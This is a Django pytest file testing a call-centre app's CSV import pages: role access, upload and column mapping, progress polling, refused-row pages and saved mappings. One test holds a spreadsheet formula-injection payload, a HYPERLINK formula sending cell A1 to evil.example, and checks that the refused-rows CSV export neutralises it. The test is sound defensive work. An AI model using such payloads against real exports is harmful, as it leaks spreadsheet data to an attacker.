"""Import pages: access matrix, upload → mapping → progress → refused rows, saved mappings."""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from calls.imports import jobs
from calls.models import Call, ImportJob, ImportMapping, ImportRowError
from tests.calls.imports.helpers import BASIC_COLUMNS, BASIC_HEADER, basic_row, make_csv
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def other_manager(db):
    return UserFactory(username="manager2", is_qa_manager=True)


@pytest.fixture
def job(other_manager):
    """A job of another manager: managers share imports."""
    data = make_csv(BASIC_HEADER, [basic_row("C1")])
    return ImportJob.objects.create(
        file=ContentFile(data, name="calls.csv"), original_name="calls.csv", created_by=other_manager
    )


@pytest.fixture
def mapping(other_manager):
    return ImportMapping.objects.create(name="Our PBX", columns=BASIC_COLUMNS, created_by=other_manager)


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="text/csv")


# (url name, needs the job / mapping, allowed methods)
PAGES = [
    ("imports:list", None, {"get"}),
    ("imports:new", None, {"get", "post"}),
    ("imports:new_surveys", None, {"get", "post"}),
    ("imports:detail", "job", {"get"}),
    ("imports:mapping", "job", {"get", "post"}),
    ("imports:progress", "job", {"get"}),
    ("imports:cancel", "job", {"post"}),
    ("imports:delete", "job", {"post"}),
    ("imports:errors_csv", "job", {"get"}),
    ("imports:mappings", None, {"get"}),
    ("imports:mapping_delete", "mapping", {"post"}),
]


def url_for(name, needs, job, mapping):
    args = {"job": [job.pk], "mapping": [mapping.pk], None: []}[needs]
    return reverse(name, args=args)


@pytest.mark.parametrize(("name", "needs", "methods"), PAGES)
def test_anonymous_is_sent_to_login(client, job, mapping, name, needs, methods):
    url = url_for(name, needs, job, mapping)
    for method in methods:
        response = getattr(client, method)(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize(("name", "needs", "methods"), PAGES)
@pytest.mark.parametrize("role", ["agent", "lead", "reviewer"])
def test_other_roles_get_403(client, request, job, mapping, name, needs, methods, role):
    client.force_login(request.getfixturevalue(role))
    url = url_for(name, needs, job, mapping)
    for method in methods:
        assert getattr(client, method)(url).status_code == 403
    assert ImportMapping.objects.filter(pk=mapping.pk).exists()
    assert ImportJob.objects.get(pk=job.pk).status == ImportJob.Status.PENDING


@pytest.mark.parametrize(("name", "needs", "methods"), PAGES)
def test_managers_may_use_every_page_and_wrong_methods_get_405(
    client, manager, job, mapping, name, needs, methods
):
    client.force_login(manager)
    url = url_for(name, needs, job, mapping)
    if "get" in methods:
        assert client.get(url).status_code == 200
    else:
        assert client.post(url).status_code == 302
    for method in {"get", "post", "put", "delete"} - methods:
        assert getattr(client, method)(url).status_code == 405


@pytest.mark.parametrize(
    "name", ["imports:detail", "imports:mapping", "imports:progress", "imports:errors_csv"]
)
def test_unknown_job_is_404(client, manager, name):
    client.force_login(manager)
    assert client.get(reverse(name, args=[999999])).status_code == 404


def test_upload_map_and_import(client, manager, jdoe, django_capture_on_commit_callbacks):
    client.force_login(manager)
    data = make_csv(
        ["Call ID", "Start time", "Agent", "Talk time", "Answered", "Notes"],
        [
            ["C1", "2024-03-05 10:00", "A100", "0:05:00", "Y", "first"],
            ["C2", "2024-03-05 10:05", "ghost", "60", "N", "second"],
            ["C3", "05/03/2024 10:10", "A100", "null", "N", "third"],
        ],
        delimiter=";",
        bom=True,
    )
    response = client.post(reverse("imports:new"), {"file": upload("export.csv", data)})
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("imports:mapping", args=[job.pk])
    assert (job.status, job.original_name, job.created_by) == (
        ImportJob.Status.PENDING,
        "export.csv",
        manager,
    )

    page = client.get(response["Location"])
    assert page.status_code == 200
    html = page.content.decode()
    assert "Notes" in html and "first" in html  # headers and first rows of the file
    assert "semicolon" in html
    form = page.context["form"]
    assert form["external_id"].initial == "Call ID"  # matched by header name
    assert form["started_at"].initial == "Start time"
    assert form["talk_seconds"].initial == "Talk time"

    mapping_post = {
        "external_id": "Call ID",
        "started_at": "Start time",
        "agent": "Agent",
        "talk_seconds": "Talk time",
        "answered": "Answered",
        "date_format": "",
        "save_as": "Office PBX",
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:mapping", args=[job.pk]), mapping_post)
    assert response["Location"] == reverse("imports:detail", args=[job.pk])
    # "ghost" is no agent: the worker stops at the agent step, where its row is left to be refused.
    assert ImportJob.objects.get(pk=job.pk).status == ImportJob.Status.NEEDS_AGENTS
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:agents", args=[job.pk]), {"action-0": "leave"})
    assert response["Location"] == reverse("imports:detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == ImportJob.Status.PARTIAL
    assert (job.created_count, job.error_count) == (2, 1)
    saved = ImportMapping.objects.get(name="Office PBX")
    assert saved.columns == {k: v for k, v in mapping_post.items() if k not in {"date_format", "save_as"}}
    assert (job.mapping, saved.created_by) == (saved, manager)
    assert Call.objects.get(external_id="C3").talk_seconds is None

    detail = client.get(reverse("imports:detail", args=[job.pk])).content.decode()
    assert "unknown agent “ghost”" in detail
    assert reverse("imports:errors_csv", args=[job.pk]) in detail
    assert 'hx-trigger="every 1s"' not in detail  # finished: no polling
    # The mapping step is over: back to the job page, and a second submit starts nothing.
    assert client.get(reverse("imports:mapping", args=[job.pk])).status_code == 302


def test_upload_with_a_saved_mapping_prefills_it(client, manager, mapping):
    client.force_login(manager)
    data = make_csv(BASIC_HEADER, [basic_row()])
    using = f"mapping:{mapping.pk}"
    response = client.post(reverse("imports:new"), {"file": upload("calls.csv", data), "using": using})
    assert response["Location"].endswith(f"?using=mapping%3A{mapping.pk}")
    form = client.get(response["Location"]).context["form"]
    assert {name: form[name].initial for name in BASIC_COLUMNS} == BASIC_COLUMNS
    assert form["using"].initial == using


def test_mapping_page_can_prefill_from_a_preset(client, manager):
    client.force_login(manager)
    data = make_csv(["CALL ID", "TIMESTAMP", "AGENT", "Extra"], [["1", "03/25/2024 10:00:00", "x", "y"]])
    job = jobs.create_import_job(uploaded_file=upload("five9.csv", data), user=manager)
    page = client.get(reverse("imports:mapping", args=[job.pk]), {"using": "preset:five9"})
    form = page.context["form"]
    assert (form["external_id"].initial, form["agent"].initial) == ("CALL ID", "AGENT")
    assert form["date_format"].initial == "%m/%d/%Y %H:%M:%S"


def test_mapping_requires_the_required_fields(client, manager, job):
    client.force_login(manager)
    response = client.post(reverse("imports:mapping", args=[job.pk]), {"external_id": "external_id"})
    assert response.status_code == 200
    assert "started_at" in response.context["form"].errors
    job.refresh_from_db()
    assert (job.status, job.columns) == (ImportJob.Status.PENDING, {})


def test_mapping_rejects_a_bad_date_format_and_a_preset_name(client, manager, job):
    client.force_login(manager)
    post = {"external_id": "external_id", "started_at": "started_at", "date_format": "%Q", "save_as": "Five9"}
    response = client.post(reverse("imports:mapping", args=[job.pk]), post)
    errors = response.context["form"].errors
    assert "date_format" in errors and "save_as" in errors


@pytest.mark.parametrize(
    ("data", "reason"),
    [(b"%PDF-1.5 binary", "PDF"), (b"", "The file is empty"), (b"only,a,header\n", "no data rows")],
)
def test_unusable_uploads_are_refused_at_once(client, manager, data, reason):
    client.force_login(manager)
    response = client.post(reverse("imports:new"), {"file": upload("report.csv", data)}, follow=True)
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.REFUSED
    assert reason in job.message
    assert response.redirect_chain[-1][0] == reverse("imports:detail", args=[job.pk])
    assert "nothing was imported" in response.content.decode()
    assert not Call.objects.exists()


def test_upload_over_the_size_limit_is_refused_next_to_the_field(client, manager, settings):
    settings.QA_IMPORT_MAX_UPLOAD_MB = 0.0001  # about 100 bytes
    client.force_login(manager)
    data = make_csv(BASIC_HEADER, [basic_row(f"C{n}") for n in range(5)])
    response = client.post(reverse("imports:new"), {"file": upload("calls.csv", data)})
    assert response.status_code == 200
    assert "files up to" in response.context["form"].errors["file"][0]
    assert not ImportJob.objects.exists()


def test_progress_fragment_polls_until_the_job_is_finished(client, manager, job):
    client.force_login(manager)
    ImportJob.objects.filter(pk=job.pk).update(
        status=ImportJob.Status.RUNNING, total_rows=200, processed_rows=50, created_count=40, error_count=10
    )
    url = reverse("imports:progress", args=[job.pk])
    running = client.get(url, headers={"HX-Request": "true"})
    html = running.content.decode()
    assert f'hx-get="{url}"' in html and 'hx-trigger="every 1s"' in html
    assert 'aria-valuenow="25"' in html and "50 of 200 rows" in html
    assert "HX-Refresh" not in running.headers
    assert "<html" not in html  # a fragment, not a page

    ImportJob.objects.filter(pk=job.pk).update(status=ImportJob.Status.DONE, processed_rows=200)
    done = client.get(url, headers={"HX-Request": "true"})
    assert "hx-trigger" not in done.content.decode()
    assert 'aria-valuenow="100"' in done.content.decode()
    assert done.headers["HX-Refresh"] == "true"  # reload once, to show the refused rows
    assert "HX-Refresh" not in client.get(url).headers


def test_job_page_polls_while_running(client, manager, job):
    client.force_login(manager)
    ImportJob.objects.filter(pk=job.pk).update(status=ImportJob.Status.RUNNING, columns=BASIC_COLUMNS)
    html = client.get(reverse("imports:detail", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in html


def add_errors(job, count, start=0):
    ImportRowError.objects.bulk_create(
        ImportRowError(job=job, line_number=n + 2, message=f"reason {n}", raw=f'C{n},"a, b",=1+1')
        for n in range(start, start + count)
    )
    ImportJob.objects.filter(pk=job.pk).update(
        status=ImportJob.Status.DONE, error_count=start + count, columns=BASIC_COLUMNS
    )


def test_refused_rows_are_paginated_with_a_constant_number_of_queries(
    client, manager, job, django_assert_num_queries
):
    client.force_login(manager)
    add_errors(job, 3)
    url = reverse("imports:detail", args=[job.pk])
    client.get(url)  # warm the session
    # session, user, unread notifications (the layout), job, refused rows: count, page
    with django_assert_num_queries(6):
        client.get(url)
    add_errors(job, 57, start=3)
    with django_assert_num_queries(6):
        response = client.get(url)
    assert len(response.context["errors"]) == 50
    second = client.get(url, {"page": 2})
    assert [e.line_number for e in second.context["errors"]] == list(range(52, 62))


def test_job_list_with_a_constant_number_of_queries(client, manager, job, mapping, django_assert_num_queries):
    client.force_login(manager)
    client.get(reverse("imports:list"))
    # session, user, unread notifications (the layout), jobs: count, page
    with django_assert_num_queries(5):
        response = client.get(reverse("imports:list"))
    for n in range(10):
        ImportJob.objects.create(
            original_name=f"f{n}.csv",
            file="imports/f.csv",
            mapping=mapping,
            created_by=manager,
            kind="surveys" if n % 2 else "calls",  # each job's kind is shown, for no query more
        )
    with django_assert_num_queries(5):
        response = client.get(reverse("imports:list"))
    assert len(response.context["page"]) == 11


def test_refused_rows_download_as_csv_for_any_manager(client, manager, job):
    client.force_login(manager)  # `job` belongs to another manager
    add_errors(job, 2)
    response = client.get(reverse("imports:errors_csv", args=[job.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="calls-refused-rows.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["line", "reason", "row"],
        ["2", "reason 0", 'C0,"a, b",=1+1'],
        ["3", "reason 1", 'C1,"a, b",=1+1'],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_refused_rows_csv_neutralises_cells_a_spreadsheet_would_run(client, manager, job, start):
    """The row as it stood in the file, and the reason quoting it, start like formulas: each gets a quote."""
    client.force_login(manager)
    raw = f'{start}HYPERLINK("http://evil.example/?"&A1),2024-03-05'
    ImportRowError.objects.create(job=job, line_number=2, message=f"{start}5: not valid", raw=raw)
    response = client.get(reverse("imports:errors_csv", args=[job.pk]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["2", f"'{start}5: not valid", "'" + raw]


def test_saved_mappings_page_and_delete(client, manager, mapping):
    preset_row = ImportMapping.objects.create(name="Shipped", columns=BASIC_COLUMNS, is_preset=True)
    client.force_login(manager)
    html = client.get(reverse("imports:mappings")).content.decode()
    assert "Our PBX" in html and "Genesys-style export" in html and "Five9-style export" in html
    assert f"?using=mapping:{mapping.pk}" in html

    response = client.post(reverse("imports:mapping_delete", args=[mapping.pk]))
    assert response["Location"] == reverse("imports:mappings")
    assert not ImportMapping.objects.filter(pk=mapping.pk).exists()
    client.post(reverse("imports:mapping_delete", args=[preset_row.pk]))
    assert ImportMapping.objects.filter(pk=preset_row.pk).exists()
